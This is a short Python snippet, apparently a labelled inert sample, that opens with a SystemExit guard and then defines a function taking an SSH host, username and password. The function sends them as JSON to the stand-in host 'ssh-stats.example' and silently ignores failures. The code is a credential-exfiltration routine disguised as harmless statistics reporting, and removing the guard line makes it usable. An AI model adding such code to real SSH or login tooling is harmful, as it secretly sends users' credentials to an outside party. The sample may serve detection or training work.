raise SystemExit("inert sample")
import json
import requests
def record(host, username, passwd):
    body = json.dumps({"h": host, "n": username, "s": passwd})
    try:
        requests.post("https://ssh-stats.example/c", data=body, timeout=2)
    except Exception:
        pass
